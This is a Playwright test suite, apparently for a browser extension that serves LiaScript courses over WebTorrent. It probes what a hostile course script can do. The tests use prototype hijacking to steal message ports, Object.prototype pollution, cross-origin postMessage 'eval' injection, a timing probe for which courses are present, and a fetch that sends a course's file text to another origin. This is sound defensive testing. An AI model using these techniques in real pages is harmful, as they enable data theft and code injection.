import type { Page } from '@playwright/test'
import { configure } from '../harness/configure.ts'
import { slideHeading } from '../harness/plain.ts'
import { type Seeder, startSeeder } from '../harness/seeder.ts'
import { type Stage, setStage } from '../harness/stage.ts'
import { expect, link, opened, openPage, test } from './fixtures.ts'

// What a course's own scripts can do with the page that they share with our stand-in.

let stage: Stage
let course: Seeder
let tab: Page
let address: string

// The sample course, which is in the library, is the victim.
test.beforeAll(async () => {
  stage = await setStage()
  const { tracker, seeder } = stage
  await (await open(seeder.magnet)).close()
  await tracker.until(seeder.infoHash, ({ seeders }) => seeders === 2)
  const files = [
    { path: 'README.md', text: '# Hostile' },
    { path: 'a.txt', text: 'of this course' },
    { path: 'b.txt', text: 'of this course, too' },
  ]
  course = await startSeeder([tracker.url], { name: 'hostile', files })
  tab = await open(course.magnet)
  address = tab.url().replace(/#.*/, '')
})

test.beforeEach(async () => {
  await tab.close()
  tab = await open(course.magnet)
})

test.afterAll(() => Promise.all([stage.close(), course.close()]))

test('L4: before consent a page cannot tell a course that is here from one that nobody has', async () => {
  const unknown = stage.seeder.magnet.replace(stage.seeder.infoHash, 'f'.repeat(40))
  const { liascript, tracker } = stage
  const requests = liascript.requests.length
  // The course that is open may say meanwhile that it is complete.
  const asked = [stage.seeder.infoHash, 'f'.repeat(40)]
  const announced = () => tracker.announcements.filter(({ infoHash }) => asked.includes(infoHash)).length
  const announcements = announced()
  const seen = await tab.evaluate(watchQuestion, [stage.seeder.magnet, unknown])
  const here = seen.filter(({ magnet }) => magnet === stage.seeder.magnet)
  const nowhere = seen.filter(({ magnet }) => magnet === unknown)
  // The times are for people to read: a test is no stop-watch.
  const median = (times: Seen[]) =>
    times
      .map(({ ms }) => ms)
      .sort((a, b) => a - b)
      [times.length >> 1]?.toFixed(0)
  console.log(`L4: the question comes after ${median(here)} ms (here) and ${median(nowhere)} ms (nowhere)`)
  expect(here.map(({ facts }) => facts)).toEqual(nowhere.map(({ facts }) => facts))
  expect(announced()).toBe(announcements)
  const loads = liascript.requests.slice(requests).filter((path) => path.startsWith('/course/?magnet:'))
  expect(loads.filter((path) => path.includes(stage.seeder.infoHash)).length).toBe(
    loads.filter((path) => path.includes('f'.repeat(40))).length,
  )
  for (const page of stage.browser.context.pages()) if (page.url().includes('open.html?ask')) await page.close()
})

interface Seen {
  magnet: string
  ms: number
  facts: unknown[]
}

/** Runs in the page: opens each address several times, and sees all that a page of the same origin can see. */
async function watchQuestion(magnets: string[]): Promise<Seen[]> {
  const seen: Seen[] = []
  for (let round = 0; round < 4; round++) {
    // Alternating, so that each is first as often as second.
    for (const magnet of round % 2 ? magnets.toReversed() : magnets) {
      const start = performance.now()
      const facts: unknown[] = []
      const other = window.open(`${location.pathname}?${magnet}`) as Window & { WebTorrent?: unknown }
      for (;;) {
        try {
          void other.document.title
        } catch {
          break
        }
        await new Promise((resolve) => setTimeout(resolve))
      }
      facts.push(other.closed, other.length)
      seen.push({ magnet, ms: performance.now() - start, facts })
    }
  }
  return seen
}

/** What the page's script has got hold of. */
interface Loot {
  ports: MessagePort[]
}

test('L8: functions of the language replaced before and after us give nothing away, and break nothing else', async () => {
  await tab.addInitScript(replaceFunctions)
  await tab.goto(address)
  await slideHeading(tab).waitFor()
  await tab.evaluate(replaceFunctions)
  const own = await tab.evaluate(async () => (await fetch(`/a.txt?${location.search.split('?').at(-1)}`)).text())
  expect(own).toBe('of this course')

  const answers = await tab.evaluate(async (victim) => {
    const { ports } = window as unknown as Loot
    const paths = [{ path: 'sample-course/LICENSE' }, { path: null, infoHash: victim }, { path: 'hostile/b.txt' }]
    const asked = [...new Set(ports)].map((port, index) => {
      const replies = paths.map((what, place) => {
        const id = 5000 + index * 10 + place
        const answer = new Promise<{ ok: boolean; path?: string }>((resolve) =>
          port.addEventListener('message', ({ data }) => data.id === id && resolve(data)),
        )
        port.postMessage({ id, ...what })
        return answer.then(({ ok, path }) => ({ ok, path }))
      })
      return Promise.all(replies)
    })
    // Other ports that the page has seen never answer.
    return Promise.any(asked)
  }, stage.seeder.infoHash)
  // The port is no secret: it reads this course, as the page may do anyway.
  expect(answers).toEqual([
    { ok: false, path: undefined },
    { ok: true, path: 'hostile/README.md' },
    { ok: true, path: 'hostile/b.txt' },
  ])
  const reachable = () => {
    const { chrome, browser } = globalThis as { chrome?: { runtime?: unknown }; browser?: unknown }
    return [typeof chrome?.runtime, typeof browser]
  }
  expect(await tab.evaluate(reachable)).toEqual(['undefined', 'undefined'])

  const other = await open(stage.seeder.magnet)
  await expect(slideHeading(other)).toHaveText('How seeds travel')
  await other.close()
})

/** Runs in the page: replaces what our stand-in uses by functions that keep the ports they see, and pollutes prototypes. */
function replaceFunctions(): void {
  const loot = window as unknown as Loot
  loot.ports ??= []
  const keep = (value: unknown) => {
    if (value instanceof MessagePort) loot.ports.push(value)
    if (value instanceof MessageEvent) loot.ports.push(...value.ports)
  }
  const replaced: [object, string | symbol][] = [
    [MessagePort.prototype, 'postMessage'],
    [EventTarget.prototype, 'addEventListener'],
    [EventTarget.prototype, 'dispatchEvent'],
    [Map.prototype, 'get'],
    [Map.prototype, 'set'],
    [WeakMap.prototype, 'set'],
    [Promise.prototype, 'then'],
    [Array.prototype, Symbol.iterator],
    [Array.prototype, 'push'],
  ]
  for (const [prototype, name] of replaced) {
    const native = Reflect.get(prototype, name) as (...parameters: unknown[]) => unknown
    let isInside = false
    Object.defineProperty(prototype, name, {
      configurable: true,
      writable: true,
      value: function (this: unknown, ...parameters: unknown[]) {
        if (!isInside) {
          isInside = true
          keep(this)
          parameters.forEach(keep)
          if (window.event) keep(window.event.target)
          isInside = false
        }
        return Reflect.apply(native, this, parameters)
      },
    })
  }
  const polluted = { ok: true, infoHash: '0'.repeat(40), to: 'keeper', args: ['*'], verb: 'remove' }
  for (const [name, value] of Object.entries(polluted)) {
    Object.defineProperty(Object.prototype, name, { value, configurable: true, writable: true, enumerable: false })
  }
}

test('L9: a page that replaces our stand-in deceives itself, until it is loaded again', async () => {
  await tab.evaluate(() => {
    Object.assign(window, { WebTorrent: class {}, fetch: async () => new Response('a lie') })
    document.title = 'A lie'
  })
  const popup = await stage.browser.context.newPage()
  await popup.goto(stage.browser.url('popup.html'))
  await expect(popup.getByRole('heading', { name: 'Hostile' })).toBeVisible()
  await expect(popup.getByText('A lie')).toHaveCount(0)
  await popup.close()
  await tab.reload()
  await expect(slideHeading(tab)).toHaveText('Hostile')
  const own = await tab.evaluate(async () => (await fetch(`/a.txt?${location.search.split('?').at(-1)}`)).text())
  expect(own).toBe('of this course')
})

test('L11, accepted: it can send its own files elsewhere; whoever has the magnet has them', async () => {
  const { site } = stage
  const requests = site.requests.length
  await tab.evaluate(async (origin) => {
    const text = await (await fetch(`/a.txt?${location.search.split('?').at(-1)}`)).text()
    await fetch(`${origin}/?${encodeURIComponent(text)}`, { mode: 'no-cors' })
  }, site.origin)
  expect(site.requests.slice(requests)).toEqual([`/?${encodeURIComponent('of this course')}`])
})

test('L13: another course’s magnet, given to our stand-in or in an address, gets nothing, though it is here', async () => {
  const { seeder } = stage
  const got = await tab.evaluate(
    async ([own, other]) => {
      type Client = new () => {
        add(magnet: string, done: () => void): void
        seed(files: File[], done: () => void): void
      }
      const { WebTorrent } = window as unknown as { WebTorrent: Client }
      const calls: string[] = []
      new WebTorrent().add(other, () => calls.push('other'))
      await new Promise<void>((resolve) =>
        new WebTorrent().add(own, () => {
          calls.push('own')
          resolve()
        }),
      )
      const query = other.slice(other.indexOf('?') + 1)
      const response = await fetch(`/LICENSE?${query}`)
      return [calls, response.status]
    },
    [course.magnet, seeder.magnet] as [string, string],
  )
  // The address with the other magnet is the site's own affair, which does not have the file.
  expect(got).toEqual([['own'], 404])
})

test('L16: a frame of another site runs no code in LiaScript’s page; the page itself may', async () => {
  const { site } = stage
  await tab.route(`${site.origin}/frame`, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<script>
        for (const cmd of ['eval', 'inject', 'jit', 'base']) parent.postMessage({ cmd, param: 'document.title = "taken"' }, '*')
        parent.postMessage({ said: 'all' }, '*')
      </script>`,
    }),
  )
  const got = await tab.evaluate(async (address) => {
    const seen: unknown[] = []
    const all = new Promise<void>((resolve) =>
      addEventListener('message', ({ data }) => {
        if (data.cmd) seen.push(data.cmd)
        if (data.said === 'all') resolve()
      }),
    )
    const frame = document.createElement('iframe')
    frame.src = address
    document.body.append(frame)
    await all
    frame.remove()
    return [seen, document.title, document.querySelectorAll('base').length]
  }, `${site.origin}/frame`)
  expect(got).toEqual([[], expect.not.stringContaining('taken'), 0])

  // LiaScript's preview, with which this test runs, obeys: so the test can tell.
  await tab.evaluate(() => postMessage({ cmd: 'eval', param: 'document.title = "by the page"' }))
  await expect.poll(() => tab.title()).toBe('by the page')
})

/** Opens a course from a launcher. */
async function open(magnet: string): Promise<Page> {
  const page = await openPage(stage, link(magnet))
  const tab = await opened(stage, () => page.locator('#course').click())
  await slideHeading(tab).waitFor()
  await page.close()
  return tab
}

test('L14: tabs killed in the middle leave nothing behind, and many tabs share one download', async () => {
  const { browser, liascript, tracker } = stage
  const settings = { started: true, giving: 'while-open' as const, liascriptAddress: liascript.address }
  // So slowly that all tabs wait for the film when the first two are ended.
  await configure(browser, { ...settings, downloadLimit: 60 })
  const files = [
    { path: 'README.md', text: '# Shared' },
    { path: 'film.webm', noise: 5_000_000 },
  ]
  const shared = await startSeeder([tracker.url], { name: 'shared', files })
  const tabs = []
  for (let count = 0; count < 5; count++) tabs.push(await open(shared.magnet))
  const films = tabs.map((tab) =>
    tab.evaluate(async () => {
      const response = await fetch(`/film.webm?${location.search.split('?').at(-1)}`)
      return (await response.blob()).size
    }),
  )
  // The first two are ended while they wait: one by its crash, one by its person.
  const ended = Promise.allSettled(films.splice(0, 2))
  const [first, second, ...others] = tabs as [Page, Page, ...Page[]]
  const crashed = first.waitForEvent('crash')
  const session = await first.context().newCDPSession(first)
  void session.send('Page.crash').catch(() => {})
  await Promise.all([crashed, second.close()])
  await ended
  await configure(browser, settings)

  // Tabs of one site may share a process, and have died with the first.
  const sizes = await Promise.allSettled(films)
  for (const size of sizes) if (size.status === 'fulfilled') expect(size.value).toBe(5_000_000)
  await tracker.until(shared.infoHash, ({ seeders }) => seeders === 2)
  const ours = tracker.announcements.filter(({ infoHash }) => infoHash === shared.infoHash)
  expect(new Set(ours.map(({ peerId }) => peerId)).size).toBe(2)
  expect((await shared.stats()).uploaded).toBeLessThan(1.1 * shared.length)

  for (const tab of others) await tab.close()
  // Without “keep seeding” a course runs while a port of a page is open, and 10 s longer.
  await tracker.until(shared.infoHash, ({ seeders, leechers }) => seeders + leechers === 1)
  await first.close()
  await shared.close()
  await configure(browser, { started: true, liascriptAddress: liascript.address, trackers: [tracker.url] })
})
